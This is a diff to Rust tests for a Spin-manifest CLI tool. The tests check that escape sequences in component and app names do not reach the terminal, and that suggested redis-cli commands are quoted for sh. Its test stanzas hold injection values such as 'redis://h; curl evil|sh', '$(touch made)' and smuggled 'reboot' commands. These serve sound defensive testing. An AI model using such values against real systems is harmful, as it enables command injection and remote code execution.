@@ -62,19 +62,26 @@ pub(crate) fn no_name_in_spin_toml_moves_the_cursor() {
     app.edit("spin/spin.toml", "cloud-shop", IN_TOML);
     let id = format!("[component.\"{IN_TOML}\"]");
     app.edit("spin/spin.toml", "[component.shop]", &id);
-    let all = run_all(&app);
-    says(&all, "the component \"\\u001B[2J");
-    says(&all, "of the app \\u{1b}[2J");
+    says(&run_all(&app), "Spin refuses the component id");
 
     app.edit("edgezero.toml", &component, "");
-    app.write("spin/spin.toml", &format!("{id}\n[component.other]\n"));
-    let all = run_all(&app);
-    says(&all, "2 components");
-    says(&all, "component = \"\\u001B[2J");
+    let version = "spin_manifest_version = 2\n";
+    app.write(
+        "spin/spin.toml",
+        &format!("{version}{id}\n[component.other]\n"),
+    );
+    run_all(&app);
 
     app.edit("spin/spin.toml", &id, "[component.x]");
     app.write("edgezero.toml", &manifest);
     says(&run_all(&app), "no component \"\\u{1b}[2J");
+
+    // Spin takes any text for the app's name.
+    let app = App::new();
+    app.fake_spin("4.0.0", 0, "");
+    app.write("edgezero.toml", &(app.read("edgezero.toml") + DEPLOY));
+    app.edit("spin/spin.toml", "cloud-shop", IN_TOML);
+    says(&run_all(&app), "of the app \\u{1b}[2J");
 }
 
 pub(crate) fn no_text_of_a_runtime_config_moves_the_cursor() {
@@ -144,11 +151,11 @@ pub(crate) fn what_a_message_says_to_run_is_quoted_for_sh() {
     for (stanza, command) in [
         (
             "type = \"redis\"\nurl = \"redis://h; curl evil|sh \"\n",
-            "redis-cli -u 'redis://h; curl evil|sh ' SET",
+            "not a URL of a Redis server",
         ),
         (
             "type = \"redis\"\nurl = \"redis://h';$(touch made)'\"\n",
-            "redis-cli -u 'redis://h'\\'';$(touch made)'\\''' SET",
+            "not a URL of a Redis server",
         ),
         (
             "type = \"redis\"\nurl = \"redis://h:6379/2\"\n",
@@ -156,7 +163,7 @@ pub(crate) fn what_a_message_says_to_run_is_quoted_for_sh() {
         ),
         (
             "type = \"redis\"\nurl = \"redis://h\\nreboot\"\n",
-            "redis-cli -u <url> SET",
+            "redis-cli -u redis://hreboot:6379/0 SET",
         ),
         (
             "type = \"aws_dynamo\"\ntable = \"t`reboot`\"\n",
